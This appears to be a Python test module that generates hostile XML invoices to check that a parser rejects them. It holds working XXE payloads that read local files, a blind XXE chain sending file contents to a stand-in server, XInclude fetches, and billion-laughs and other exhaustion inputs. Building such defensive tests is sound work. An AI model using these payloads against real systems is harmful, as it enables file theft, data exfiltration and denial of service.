"""Hostile XML by name: refusing it, or judging it, must cost next to nothing.

Each document is an invoice that would be valid but for one thing that is done to it.
"""

from collections.abc import Callable, Iterator

Documents = dict[str, bytes]

_MEGABYTE = 1_000_000

_DECLARATIONS = {
    "empty": "<!DOCTYPE x>",
    "system": '<!DOCTYPE x SYSTEM "{url}/x.dtd">',
    "public": '<!DOCTYPE x PUBLIC "-//X//X" "{url}/x.dtd">',
    "file": '<!DOCTYPE x SYSTEM "file://{file}">',
    "subset": "<!DOCTYPE x []>",
    "entity": '<!DOCTYPE x [<!ENTITY e "v">]>',
    "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}/e">]>',
    "file entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{file}">]>',
    "bare path entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>',
    "php entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "php://filter/resource={file}">]>',
    "jar entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "jar:{url}/a.jar!/b">]>',
    "ftp entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "ftp://127.0.0.1:{port}/e">]>',
    "parameter entity": '<!DOCTYPE x [<!ENTITY % e SYSTEM "{url}/p"> %e;]>',
    "blind": '<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e '
    "\"<!ENTITY &#37; s SYSTEM '{url}/?%f;'>\">%e;%s;]>",
    "unparsed": '<!DOCTYPE x [<!NOTATION n SYSTEM "{url}/n">'
    '<!ENTITY e SYSTEM "{url}/e" NDATA n>]>',
    "laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "'
    + "&a;" * 100
    + '"><!ENTITY c "'
    + "&b;" * 100
    + '"><!ENTITY d "'
    + "&c;" * 100
    + '"><!ENTITY e "'
    + "&d;" * 100
    + '">]>',
    "quadratic": '<!DOCTYPE x [<!ENTITY e "' + "a" * 100_000 + '">]>',
    "loop": '<!DOCTYPE x [<!ENTITY e "&f;"><!ENTITY f "&e;">]>',
    "attributes": '<!DOCTYPE x [<!ATTLIST Invoice z CDATA "v">]>',
    "after a comment": "<!-- x --><!DOCTYPE x>",
    "after an instruction": "<?x y?>\n\t<!DOCTYPE x>",
    "lower case": "<!doctype x>",
    "unclosed": "<!DOCTYPE x [",
    "conditional": "<!DOCTYPE x [<![INCLUDE[<!ENTITY e 'v'>]]>]>",
}

_CODINGS: dict[str, Callable[[str], bytes]] = {
    "utf-8": str.encode,
    "utf-8 marked": lambda text: text.encode("utf-8-sig"),
    "utf-16": lambda text: text.encode("utf-16"),
    "utf-16-le": lambda text: text.encode("utf-16-le"),
    "utf-16-be": lambda text: text.encode("utf-16-be"),
}

_ENCODINGS = (
    *("utf-7", "utf-32", "utf-32-le", "utf-32-be", "cp037", "cp500", "iso2022_jp", "shift_jis"),
    *("euc_jp", "gb18030", "big5", "hz", "cp1252", "koi8-r", "iso8859-15", "mac-roman", "utf-16"),
)
_NAMES = ("UTF-7", "UTF-32", "IBM037", "ISO-2022-JP", "Shift_JIS", "US-ASCII", "windows-1252", "x")

_BYTES = {
    "overlong slash": b"\xc0\xaf",
    "overlong nul": b"\xc0\x80",
    "overlong less-than": b"\xe0\x80\xbc",
    "surrogate": b"\xed\xa0\x80",
    "surrogate pair": b"\xed\xa0\xbd\xed\xb8\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80",
    "beyond unicode": b"\xf4\x90\x80\x80",
    "lone continuation": b"\x80",
    "cut character": b"\xe2\x82",
    "nul": b"\0",
    "escape": b"\x1b",
    "backspace": b"\x08",
    "not a character": b"\xef\xbf\xbf",
    "unknown entity": b"&x;",
    "null reference": b"&#0;",
    "control reference": b"&#x1;",
    "surrogate reference": b"&#xD800;",
    "overflowing reference": b"&#4294967344;",
    "beyond reference": b"&#x110000;",
    "bare ampersand": b"& ",
    "cdata end": b"]]>",
    "open cdata": b"<![CDATA[",
    "open comment": b"<!--",
    "hyphens": b"<!-- -- -->",
    "declaration": b'<?xml version="1.0"?>',
    "unclosed instruction": b"<?x",
}

_ODD_VALUES = {
    "comment": "1<!---->00",
    "instruction": "1<?x?>00",
    "cdata": "1<![CDATA[0]]>0",
    "reference": "&#49;00",
    "nested": "1<x>0</x>0",
    "digits": "1" * 900_000,
    "fraction": "0." + "1" * 900_000,
    "exponent": "1E400",
    "huge exponent": "1e999999999",
    "negative zero": "-0",
    "not a number": "NaN",
    "infinite": "INF",
    "python": "1_000",
    "full width": "１００",
    "arabic": "٣",
    "white space": " \t\n 100 \r\n",
    "no-break space": "\u00a0100",
    "nothing": "",
    "minuses": "-" * 100_000,
    "points": "." * 100_000,
    "plus": "+100",
    "date": "999999-01-01",
    "iso week": "2026-W01-1",
    "basic date": "20260101",
    "year zero": "0000-00-00",
    "time zone": "2026-01-01+14:00",
    "blanks": " " * 900_000,
    "ats": "a@" * 400_000,
    "hashes": "#SKONTO#TAGE=1" * 60_000,
    "breaks": "1\n" * 400_000,
    "letters": "a" * 900_000 + "!",
    "astral": "\U0001f600" * 200_000,
    "combining": "e" + "\u0301" * 400_000,
    "right to left": "\u202e100",
}

_PLACES = {
    "amount": ("PayableAmount", "DuePayableAmount"),
    "identifier": ("EndpointID", "URIID"),
    "date": ("IssueDate", "DateTimeString"),
    "specification": ("CustomizationID", "ID"),
    "vat number": ("CompanyID", "SpecifiedTaxRegistration"),
}


def documents(bases: dict[str, str], url: str, file: str) -> Iterator[tuple[str, bytes]]:
    """Yield hostile documents by name.

    Args:
        bases: Valid documents without XML declaration, by syntax.
        url: Of the server that must never be asked.
        file: What must never be read.
    """
    port = url.rpartition(":")[2]
    for syntax, text in bases.items():
        for name, declaration in _DECLARATIONS.items():
            said = declaration.replace("{url}", url).replace("{file}", file)
            spoilt = said.replace("{port}", port) + _value(text, syntax, "amount", "&e;")
            for coding, encode in _CODINGS.items():
                yield f"{syntax}: doctype {name}, {coding}", encode(spoilt)
        yield from _encoded(syntax, text)
        for name, raw in _BYTES.items():
            marked = _value(text, syntax, "amount", "@@")
            yield f"{syntax}: {name}", marked.encode().replace(b"@@", raw)
        for place in _PLACES:
            for name, value in _ODD_VALUES.items():
                yield (
                    f"{syntax}: {place} of {name}",
                    _value(text, syntax, place, value).encode(),
                )
        yield from _included(syntax, text, url, file)
        yield from _shaped(syntax, text)


def _value(text: str, syntax: str, place: str, value: str) -> str:
    """Return the document with another value in the first element of a name."""
    name = _PLACES[place][syntax == "cii"]
    begin = text.index(">", text.index(f":{name}")) + 1
    return text[:begin] + value + text[text.index("</", begin) :]


def _encoded(syntax: str, text: str) -> Iterator[tuple[str, bytes]]:
    for encoding in _ENCODINGS:
        head = f'<?xml version="1.0" encoding="{encoding}"?>'
        yield f"{syntax}: declared {encoding}", (head + text).encode(encoding, "replace")
    for name in _NAMES:
        head = f'<?xml version="1.0" encoding="{name}"?>'
        yield f"{syntax}: said to be {name}", (head + text).encode()
        crooked = f'<?xml version="1." encoding="{name}"?>'
        yield f"{syntax}: crooked and said to be {name}", (crooked + text).encode()
    for version in ("1.1", "1.2", "2.0", "1.", "1.0a", ""):
        yield f"{syntax}: version {version}", f'<?xml version="{version}"?>{text}'.encode()
    yield (
        f"{syntax}: says utf-8, is utf-16",
        f"<?xml version='1.0' encoding='utf-8'?>{text}".encode("utf-16"),
    )
    yield f"{syntax}: two marks", b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode()
    yield f"{syntax}: odd utf-16", text.encode("utf-16") + b"\0"


def _included(syntax: str, text: str, url: str, file: str) -> Iterator[tuple[str, bytes]]:
    root = text.index(" ", text.index("<"))
    schema = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:'
    for name, attribute in {
        "schema location": f'{schema}schemaLocation="urn:x {url}/x.xsd"',
        "file schema location": f'{schema}schemaLocation="urn:x file://{file}"',
        "no namespace schema": f'{schema}noNamespaceSchemaLocation="{url}/x.xsd"',
        "base": f'xml:base="{url}/"',
        "nil": f'{schema}nil="true"',
        "type": f'{schema}type="xs:anyType" xmlns:xs="http://www.w3.org/2001/XMLSchema"',
    }.items():
        yield f"{syntax}: {name}", f"{text[:root]} {attribute}{text[root:]}".encode()
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    for name, address in {"file": f"file://{file}", "url": f"{url}/i", "path": file}.items():
        for parse in ("xml", "text"):
            element = f'<xi:include {include} parse="{parse}" href="{address}"/>'
            yield (
                f"{syntax}: xinclude {parse} {name}",
                _value(text, syntax, "identifier", element).encode(),
            )
    for name in ("xml-stylesheet", "xml-model", "oxygen", "php"):
        instruction = f'<?{name} type="text/xsl" href="{url}/x.xsl"?>'
        yield f"{syntax}: {name}", (instruction + text).encode()


def _shaped(syntax: str, text: str) -> Iterator[tuple[str, bytes]]:
    end = text.rindex("</")
    root = text.index(">", text.index(" ", text.index("<")))

    def inside(content: str) -> bytes:
        return (text[:end] + content + text[end:]).encode()

    def on_root(content: str) -> bytes:
        return (text[:root] + content + text[root:]).encode()

    yield f"{syntax}: deep", inside("<a>" * 100_000 + "</a>" * 100_000)
    yield f"{syntax}: never closed", inside("<a>" * 300_000)
    yield f"{syntax}: just deep enough", inside("<a>" * 250 + "</a>" * 250)
    yield f"{syntax}: siblings", inside("<a/>" * 240_000)
    yield f"{syntax}: as many siblings as may be", inside("<a/>" * 49_900)
    yield f"{syntax}: as many as a megabyte may have", inside("<a>xxxxxxxxx</a>" * 62_000)
    yield f"{syntax}: as many attributes as may be", inside('<a b="" c=""/>' * 24_900)
    yield f"{syntax}: siblings of many names", inside("".join(f"<a{n}/>" for n in range(90_000)))
    yield f"{syntax}: comments", inside("<!---->" * 140_000)
    yield f"{syntax}: text and comments", inside("<a>" + "xxxx<!---->" * 80_000 + "</a>")
    yield f"{syntax}: text and elements", inside("<a>" + "xxxxxx<b/>" * 90_000 + "</a>")
    yield f"{syntax}: instructions", inside("<?a?>" * 190_000)
    yield f"{syntax}: prolog of instructions", ("<?a?>" * 190_000 + text).encode()
    yield f"{syntax}: prolog of a comment", ("<!--" + "x" * _MEGABYTE + "-->" + text).encode()
    yield f"{syntax}: attributes", on_root("".join(f' a{n}=""' for n in range(90_000)))
    yield f"{syntax}: attributes of one name", on_root(' a=""' * 200_000)
    yield f"{syntax}: 250 attributes", on_root("".join(f' a{n}=""' for n in range(250)))
    many = "".join(f' xmlns:n{n}="u:{n}"' for n in range(50_000))
    yield f"{syntax}: namespaces", on_root(many)
    one = "".join(f' xmlns:n{n}="u"' for n in range(50_000))
    yield f"{syntax}: one namespace, many prefixes", on_root(one)
    redefined = "".join(f'<n:a xmlns:n="u:{n}">' for n in range(200))
    yield f"{syntax}: a prefix redefined", inside(redefined + "</n:a>" * 200)
    scopes = "".join(
        "<a " + " ".join(f'xmlns:n{n}x{k}="u:{k}"' for k in range(60)) + ">" for n in range(200)
    )
    yield f"{syntax}: namespaces in scope", inside(scopes + "</a>" * 200)
    yield f"{syntax}: long name", inside(f"<{'a' * 900_000}/>")
    yield f"{syntax}: long attribute", on_root(f' a="{"&#10;" * 180_000}"')
    yield f"{syntax}: long attribute name", on_root(f' {"a" * 900_000}=""')
    yield f"{syntax}: unclosed quote", on_root(' a="' + "x" * 900_000)
    yield f"{syntax}: less-than signs", inside("<" * 900_000)
    yield f"{syntax}: greater-than signs", inside(">" * 900_000)
    yield f"{syntax}: ampersands", inside("&" * 900_000)
    yield f"{syntax}: equals signs", inside("=" * 900_000)
    yield f"{syntax}: two roots", (text + text).encode()
    yield f"{syntax}: text after", (text + "x").encode()
    yield f"{syntax}: cut", text[: len(text) // 2].encode()
    yield f"{syntax}: other root", text.replace("Invoice", "Invoic", 1).encode()


def large(bases: dict[str, str]) -> Iterator[tuple[str, bytes]]:
    """Yield hostile documents of more than a megabyte by name."""
    for syntax, text in bases.items():
        end = text.rindex("</")

        def inside(content: str, text: str = text, end: int = end) -> bytes:
            return (text[:end] + content + text[end:]).encode()

        yield f"{syntax}: 100 MB of text", inside("x" * 100 * _MEGABYTE)
        yield f"{syntax}: 19 MB of text", inside("x" * 19 * _MEGABYTE)
        yield f"{syntax}: 9 MB of text", inside("<a>" + "x" * 9 * _MEGABYTE + "</a>")
        yield f"{syntax}: 9 MB of attribute", inside(f'<a b="{"x" * 9 * _MEGABYTE}"/>')
        yield f"{syntax}: two million siblings", inside("<a/>" * 2_000_000)
        yield f"{syntax}: comments without end", inside("<!---->" * 2_000_000)
        yield f"{syntax}: instructions without end", inside("<?a?>" * 3_000_000)
        yield f"{syntax}: elements with attributes", inside('<a b=""/>' * 2_000_000)
        yield (
            f"{syntax}: half a million elements",
            inside("<a>" + "x" * 30 + "<b/>" * 500_000 + "</a>"),
        )
        yield f"{syntax}: as many elements as may be", inside("<a>xxxxxxxxx</a>" * 599_000)
        yield f"{syntax}: as many as two megabytes may have", inside("<a/>xxxxxxxxxxxx" * 125_000)
        yield (
            f"{syntax}: as many attributes as two megabytes may have",
            inside('<a b="" c=""/>' * 31_000 + "x" * 1_570_000),
        )
        yield (
            f"{syntax}: 9,000,000 digits",
            _value(text, syntax, "amount", "1" * 9_000_000).encode(),
        )
        yield f"{syntax}: sections", inside("<a>" + "<![CDATA[x]]>" * 1_000_000 + "</a>")
        yield f"{syntax}: references", inside("<a>" + "&#65;" * 1_900_000 + "</a>")
        yield f"{syntax}: long comment", ("<!--" + "x" * 9 * _MEGABYTE + "-->" + text).encode()
        yield f"{syntax}: utf-16", inside("<a>x</a>" * 600_000).decode().encode("utf-16")
